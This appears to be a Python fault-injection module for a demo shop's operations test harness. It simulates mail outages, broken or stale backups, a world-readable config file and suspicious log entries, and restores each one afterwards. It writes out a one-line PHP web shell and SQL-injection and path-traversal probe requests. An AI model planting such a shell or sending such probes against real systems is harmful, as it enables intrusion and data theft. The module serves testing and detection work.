"""Faults in operations: mail, backups, cron jobs, logs, server.

File faults save what they change under RUN/.fault_stash/<fault>/ (content, mode and mtime, by
shutil.copy2) and put it back when switched off. Log faults append lines carrying a marker and
remove exactly those lines again (in place, so the log keeps its inode and the shop its handle).
"""

from __future__ import annotations

import datetime as dt
import gzip
import hashlib
import json
import os
import shutil
import time
from pathlib import Path

from cryptography.fernet import Fernet

from demoshop.faults import flags
from demoshop.faults.kinds import Fault, flag_fault, process_fault, sql_fault

STASH = ".fault_stash"
BACKLOG_ADDRESS = "queue-backlog-fault@dija-accessories.example"
DAY = 86400


# ---- saving and restoring files ------------------------------------------------------------------
def _stash(stack, fault: str) -> Path:
    return stack.run_dir / STASH / fault


def save_files(stack, fault: str, paths: list[Path]) -> None:
    """Keep a copy of each file (content, mode, mtime) so restore_files can put it back exactly."""
    stash = _stash(stack, fault)
    if (stash / "manifest.json").exists():
        return  # switched on twice: the stash already holds the healthy files
    stash.mkdir(parents=True, exist_ok=True)
    for path in paths:
        copy = stash / path.relative_to(stack.run_dir)
        copy.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(path, copy)
    (stash / "manifest.json").write_text(json.dumps([str(p.relative_to(stack.run_dir)) for p in paths]))


def restore_files(stack, fault: str) -> None:
    stash = _stash(stack, fault)
    if not (stash / "manifest.json").exists():
        return
    for relative in json.loads((stash / "manifest.json").read_text()):
        shutil.copy2(stash / relative, stack.run_dir / relative)
    shutil.rmtree(stash)


def file_fault(name: str, description: str, change) -> Fault:
    """`change(stack)` returns the files it is about to alter; they are saved first and restored when off."""

    def on(stack):
        paths = change(stack, dry_run=True)
        save_files(stack, name, paths)
        change(stack, dry_run=False)

    return Fault(name, description, on=on, off=lambda stack: restore_files(stack, name), kind="file")


# ---- backups -------------------------------------------------------------------------------------
def newest_backup(stack, data_class: str, root: str = "backups") -> Path:
    found = (stack.run_dir / root).glob(stack.shape.backup_glob(data_class))
    return max(found, key=lambda path: (path.stat().st_mtime, path.name))


def _with_checksum(path: Path) -> list[Path]:
    return [path, path.with_name(path.name + ".sha256")]


def _set_back(paths: list[Path], seconds: float) -> None:
    for path in paths:
        when = path.stat().st_mtime - seconds
        os.utime(path, (when, when))


def _stale(data_class: str):
    """Every backup of the class younger than three days is set back three days, so the newest is
    three days old however many the cron made since the stack started."""

    def change(stack, dry_run):
        cutoff = time.time() - 3 * DAY
        found = (stack.run_dir / "backups").glob(stack.shape.backup_glob(data_class))
        recent = [path for path in found if path.stat().st_mtime > cutoff] or [newest_backup(stack, data_class)]
        paths = [file for path in recent for file in _with_checksum(path)]
        if not dry_run:
            _set_back(paths, 3 * DAY)
        return paths

    return change


def _rewrite_full(transform, keep_checksum: bool = False):
    """Replace the newest full backup by transform(sql, fernet, blob, shape), its mtime kept (and its checksum)."""

    def change(stack, dry_run):
        path = newest_backup(stack, "full")
        paths = _with_checksum(path)
        if dry_run:
            return paths
        stat = path.stat()
        fernet = Fernet(stack.secrets["DIJA_BACKUP_KEY"].encode())
        sql = gzip.decompress(fernet.decrypt(path.read_bytes()))
        blob = transform(sql, fernet, path.read_bytes(), stack.shape)
        path.write_bytes(blob)
        if not keep_checksum:
            paths[1].write_text(f"{hashlib.sha256(blob).hexdigest()}  {path.name}\n")
        for file in paths:
            os.utime(file, (stat.st_mtime, stat.st_mtime))
        return paths

    return change


def _flip_bytes(sql, fernet, blob: bytes, shape) -> bytes:
    middle = len(blob) // 2
    return blob[:middle] + bytes(b ^ 0x55 for b in blob[middle : middle + 64]) + blob[middle + 64 :]


def _cut_off(sql, fernet, blob: bytes, shape) -> bytes:
    """The dump as a job killed half-way left it: it stops inside the orders' INSERT statement."""
    return fernet.encrypt(gzip.compress(sql[: sql.index(f"INSERT INTO `{shape.table('orders')}`".encode()) + 200]))


def _remove(locate):
    def change(stack, dry_run):
        paths = locate(stack)
        if not dry_run:
            for path in paths:
                path.unlink()
        return paths

    return change


def _month_backup(stack) -> list[Path]:
    monthly = sorted((stack.run_dir / "backups").glob(stack.shape.monthly_glob("full")))
    return _with_checksum(monthly[-3])


# ---- cron, web root ------------------------------------------------------------------------------
def _stale_heartbeat(stack, dry_run):
    paths = [stack.run_dir / "heartbeats" / stack.shape.heartbeat("backup")]
    if not dry_run:
        _set_back(paths, 2 * DAY)
    return paths


def _world_readable_config(stack, dry_run):
    paths = [stack.run_dir / "www" / "config.php"]
    if not dry_run:
        os.chmod(paths[0], 0o666)
    return paths


# ---- logs ----------------------------------------------------------------------------------------
def _access_line(ip: str, request: str, status: int, marker: str, when: dt.datetime) -> str:
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - - [{stamp}] "{request} HTTP/1.1" {status} 512 "-" "Mozilla/5.0 ({marker})"'


def _error_burst(now):
    return [
        _access_line(
            f"203.0.113.{i % 50 + 1}",
            "GET /checkout",
            500 if i % 3 else 503,
            "fault error_burst",
            now - dt.timedelta(seconds=i),
        )
        for i in range(120)
    ]


def _request_flood(now):
    return [
        _access_line(
            "198.51.100.23",
            f"GET /product/gold-hoops?page={i}",
            200,
            "fault request_flood",
            now - dt.timedelta(seconds=i % 1800),
        )
        for i in range(700)
    ]


def _attack_probe(now):
    probes = [
        "GET /product/gold-hoops?id=1%27%20UNION%20SELECT%20password%20FROM%20admin_users--",
        "GET /search?q=%27%20OR%201=1--",
        "GET /../../etc/passwd",
        "GET /download?file=../../config.php",
    ]
    return [_access_line("192.0.2.66", probe, 404, "fault attack_probe", now) for probe in probes]


def _fatal(now):
    stamp = now.strftime("%d-%b-%Y %H:%M:%S UTC")
    return [
        f"[{stamp}] PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in "
        f"/var/www/dija/includes/db.php:12 (fault fatal_logged)"
    ]


def log_fault(name: str, description: str, log_name: str, lines) -> Fault:
    """Append lines(now) to RUN/logs/<log_name>; off removes the lines carrying `(fault <name>)`."""
    marker = f"(fault {name})"

    def on(stack):
        with open(stack.run_dir / "logs" / log_name, "a", encoding="utf-8") as out:
            out.writelines(line + "\n" for line in lines(dt.datetime.now(dt.UTC)))

    def off(stack):
        with open(stack.run_dir / "logs" / log_name, "r+", encoding="utf-8") as log_file:
            kept = [line for line in log_file if marker not in line]
            log_file.seek(0)
            log_file.writelines(kept)
            log_file.truncate()

    return Fault(name, description, on=on, off=off, kind="log")


FAULTS = [
    # ---- mail
    process_fault("smtp_down", "the shop's SMTP relay is stopped: mail is refused", "smtp"),
    flag_fault(flags.MAIL_DROPPED, "the SMTP relay accepts mail and silently discards it"),
    sql_fault(
        "queue_backlog",
        "the shop's email queue has mail queued for two hours and a failed message",
        [
            f"INSERT INTO {{email_queue}} ({{email_queue.to_address}}, subject, template, {{email_queue.status}}, "
            f"{{email_queue.attempts}}, last_error, {{email_queue.created_at}}) VALUES "
            f"('{BACKLOG_ADDRESS}', 'Order confirmed', 'order_confirmation', {{email_queue.status:queued}}, 3, "
            "NULL, "
            f"{{now}} - INTERVAL 2 HOUR), ('{BACKLOG_ADDRESS}', 'Order confirmed', 'order_confirmation', "
            f"{{email_queue.status:queued}}, 3, NULL, {{now}} - INTERVAL 90 MINUTE), ('{BACKLOG_ADDRESS}', "
            f"'Reset your password', 'password_reset', {{email_queue.status:failed}}, 5, 'connection refused', "
            f"{{now}} - INTERVAL 1 HOUR)"
        ],
        [
            f"DELETE FROM {{email_queue}} WHERE {{email_queue.to_address}} = '{BACKLOG_ADDRESS}'",
            "ALTER TABLE {email_queue} AUTO_INCREMENT = 1",
        ],
    ),
    # ---- backups
    *[
        file_fault(
            f"stale_backup_{data_class}",
            f"the newest {data_class} backup is three days old (the job stopped)",
            _stale(data_class),
        )
        for data_class in ("orders", "customers", "products", "full")
    ],
    file_fault(
        "corrupt_backup",
        "the newest full backup is damaged on disk (no longer matches its checksum)",
        _rewrite_full(_flip_bytes, keep_checksum=True),
    ),
    file_fault(
        "unencrypted_backup",
        "the newest full backup is a plain gzip dump (encryption left out)",
        _rewrite_full(lambda sql, fernet, blob, shape: gzip.compress(sql)),
    ),
    file_fault(
        "truncated_backup",
        "the newest full backup stops half-way (the dump was cut off), checksum made after",
        _rewrite_full(_cut_off),
    ),
    file_fault("missing_month", "one monthly full backup (three months ago) was deleted", _remove(_month_backup)),
    file_fault(
        "missing_offsite",
        "the newest full backup was never copied offsite",
        _remove(lambda stack: _with_checksum(newest_backup(stack, "full", root="offsite"))),
    ),
    # ---- cron, web root
    file_fault("stale_heartbeat", "the backup cron job last ran two days ago", _stale_heartbeat),
    file_fault(
        "config_world_readable",
        "chmod 666 config.php: anyone on the server reads (and writes) the DB password",
        _world_readable_config,
    ),
    Fault(
        "upload_webshell",
        "a PHP file sits in uploads/ (a web shell uploaded through an image form)",
        on=lambda stack: (stack.run_dir / "www" / "uploads" / "thumb.php").write_text("<?php system($_GET['c']);\n"),
        off=lambda stack: (stack.run_dir / "www" / "uploads" / "thumb.php").unlink(missing_ok=True),
    ),
    # ---- logs
    log_fault("fatal_logged", "a PHP Fatal error is written to the PHP error log", "php_errors.log", _fatal),
    log_fault("error_burst", "120 requests answered 500/503 in the access log", "access.log", _error_burst),
    log_fault("request_flood", "one IP made 700 requests in the last half hour", "access.log", _request_flood),
    log_fault("attack_probe", "SQL-injection and path-traversal probes in the access log", "access.log", _attack_probe),
]
